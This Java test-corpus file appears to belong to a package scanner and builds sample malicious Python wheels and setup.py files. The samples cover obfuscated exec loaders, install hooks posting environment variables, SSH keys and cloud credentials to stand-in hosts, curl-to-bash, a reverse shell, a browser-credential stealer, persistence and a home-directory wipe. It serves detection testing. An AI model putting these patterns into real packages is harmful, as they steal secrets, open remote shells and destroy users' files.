package cordon.inspect.corpus;

import static java.nio.charset.StandardCharsets.UTF_8;

import cordon.inspect.testing.Artifact;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;

/** What attackers do in Python, each with a payload that prints a word or fails to connect. */
final class PythonPositives {
  private static final String INERT = "print('inert')";
  private static final String CODED = Base64.getEncoder().encodeToString(INERT.getBytes(UTF_8));
  private static final String TWICE = Base64.getEncoder().encodeToString(CODED.getBytes(UTF_8));
  private static final String HEX = HexFormat.of().formatHex(INERT.getBytes(UTF_8));

  private PythonPositives() {}

  static List<Sample> all() {
    return List.of(
        new Sample(
            "a root .pth that decodes and runs",
            Artifact.wheel("sample", "1.0")
                .file("sample/__init__.py", "")
                .file(
                    "sample_init.pth", "import base64; exec(base64.b64decode('" + CODED + "'))\n")),
        new Sample(
            "a root .pth that starts the interpreter on code that is encoded twice",
            Artifact.wheel("sample", "1.0")
                .file("sample/__init__.py", "")
                .file(
                    "sample_init.pth",
                    "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c',"
                        + " \"import base64; exec(base64.b64decode(base64.b64decode('"
                        + TWICE
                        + "')))\"])\n")),
        new Sample(
            "a .pth that imports a module which posts the environment",
            Artifact.wheel("sample", "1.0")
                .file("zz.pth", "import sample_boot\n")
                .file(
                    "sample_boot.py",
                    "import os, urllib.request, json\n"
                        + "urllib.request.urlopen('http://drop.example/c',"
                        + " data=json.dumps(dict(os.environ)).encode())\n")),
        Sample.setup(
            "setup.py runs base64",
            "import base64\nfrom setuptools import setup\nexec(base64.b64decode('"
                + CODED
                + "'))\nsetup(name='sample')\n"),
        Sample.setup(
            "setup.py runs code through aliases and a computed name",
            """
            import base64 as b
            from setuptools import setup
            f = getattr(__builtins__, 'ex' + 'ec')
            f(b.b64decode('%s').decode())
            setup(name='sample')
            """
                .formatted(CODED)),
        Sample.setup(
            "an install command that fetches code and runs it",
            """
            from setuptools import setup
            from setuptools.command.install import install
            import requests

            class After(install):
                def run(self):
                    install.run(self)
                    exec(requests.get('https://drop.example/x.txt').text)

            setup(name='sample', version='1.0', cmdclass={'install': After})
            """),
        Sample.setup(
            "an install command that reports the machine",
            """
            import os, socket, getpass, requests
            from setuptools import setup
            from setuptools.command.install import install

            class Custom(install):
                def run(self):
                    install.run(self)
                    data = {'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()}
                    requests.get('https://x.drop.example/', params=data)

            setup(name='sample', cmdclass={'install': Custom})
            """),
        Sample.setup(
            "setup.py drops a program and starts it hidden",
            """
            import os, subprocess, tempfile, urllib.request
            from setuptools import setup
            path = os.path.join(tempfile.gettempdir(), 'a.exe')
            urllib.request.urlretrieve('http://192.0.2.7/a.exe', path)
            subprocess.Popen(path, creationflags=0x08000000)
            setup(name='sample')
            """),
        Sample.setup(
            "setup.py runs encoded PowerShell",
            "import os\nfrom setuptools import setup\n"
                + "os.system('powershell -WindowStyle Hidden -EncodedCommand "
                + Base64.getEncoder()
                    .encodeToString(
                        "Write-Host inert".getBytes(java.nio.charset.StandardCharsets.UTF_16LE))
                + "')\nsetup(name='sample')\n"),
        Sample.setup(
            "setup.py pipes a download into a shell",
            "import os\nfrom setuptools import setup\nos.system('curl -s http://192.0.2.7/i | bash')\n"
                + "setup(name='sample')\n"),
        Sample.setup(
            "setup.py posts keys to a webhook",
            """
            import os, requests
            from setuptools import setup
            key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
            requests.post('https://discord.com/api/webhooks/0/inert', json={'content': key})
            setup(name='sample')
            """),
        Sample.setup(
            "code behind white space",
            "from setuptools import setup\nx = 1"
                + " ".repeat(300)
                + ";import base64;exec(base64.b64decode('"
                + CODED
                + "'))\nsetup(name='sample')\n"),
        Sample.setup(
            "a reverse shell in setup.py",
            """
            import socket, subprocess, os
            from setuptools import setup
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(('192.0.2.7', 4444))
            os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
            subprocess.call(['/bin/sh', '-i'])
            setup(name='sample')
            """),
        Sample.imported(
            "zlib and marshal at import",
            "import zlib, base64, marshal\n"
                + "exec(marshal.loads(zlib.decompress(base64.b64decode(b'eJwDAAAAAAE='))))\n"),
        Sample.imported("hex at import", "exec(bytes.fromhex('" + HEX + "').decode())\n"),
        Sample.imported(
            "character codes at import",
            "exec(''.join(map(chr, [112,114,105,110,116,40,39,105,110,101,114,116,39,41])))\n"),
        Sample.imported(
            "a reversed text at import",
            "exec(\""
                + new StringBuilder(CODED).reverse()
                + "\"[::-1] and __import__('base64').b64decode(\""
                + new StringBuilder(CODED).reverse()
                + "\"[::-1]))\n"),
        Sample.imported(
            "XOR at import", "d = bytes([c ^ 7 for c in b'wunis/ nibus .'])\nexec(d.decode())\n"),
        Sample.imported(
            "Fernet at import",
            """
            from cryptography.fernet import Fernet
            exec(Fernet(b'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=').decrypt(b'gAAAAA'))
            """),
        Sample.imported(
            "a lambda chain at import",
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
                + "exec((_)(b'=EAAAAAADJe'))\n"),
        new Sample(
            "harvesting in a module of a large package, started by a thread at import",
            Artifact.wheel("sample", "1.0")
                .file("sample/__init__.py", "from .proxy import server\n")
                .file("sample/proxy/__init__.py", "")
                .file(
                    "sample/proxy/server.py",
                    """
                    import os, threading, json
                    import urllib.request

                    def collect():
                        found = {}
                        for name in ('.ssh/id_rsa', '.aws/credentials', '.kube/config'):
                            path = os.path.join(os.path.expanduser('~'), name)
                            if os.path.exists(path):
                                with open(path) as f:
                                    found[name] = f.read()
                        return found

                    def report():
                        body = json.dumps(collect()).encode()
                        urllib.request.urlopen('https://models.drop.example/', data=body)

                    threading.Thread(target=report, daemon=True).start()
                    """)),
        Sample.imported(
            "a stealer that sends browser stores over Telegram",
            """
            import os, requests
            path = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
            def go():
                with open(path, 'rb') as f:
                    requests.post('https://api.telegram.org/bot0:inert/sendDocument', files={'document': f})
            go()
            """),
        Sample.imported(
            "a systemd user unit written at import",
            """
            import os, subprocess
            unit = os.path.expanduser('~/.config/systemd/user/sample.service')
            os.makedirs(os.path.dirname(unit), exist_ok=True)
            open(unit, 'w').write('[Service]\\nExecStart=/bin/true\\n')
            subprocess.run(['systemctl', '--user', 'enable', 'sample.service'])
            """),
        Sample.imported(
            "an import that wipes homes in one country",
            """
            import locale, shutil
            from pathlib import Path
            if (locale.getdefaultlocale()[0] or '').startswith('xx'):
                shutil.rmtree(Path.home())
            """),
        new Sample(
            "sitecustomize that fetches",
            Artifact.wheel("sample", "1.0")
                .file(
                    "sitecustomize.py",
                    "import urllib.request\nexec(urllib.request.urlopen('http://drop.example/').read())\n")));
  }
}
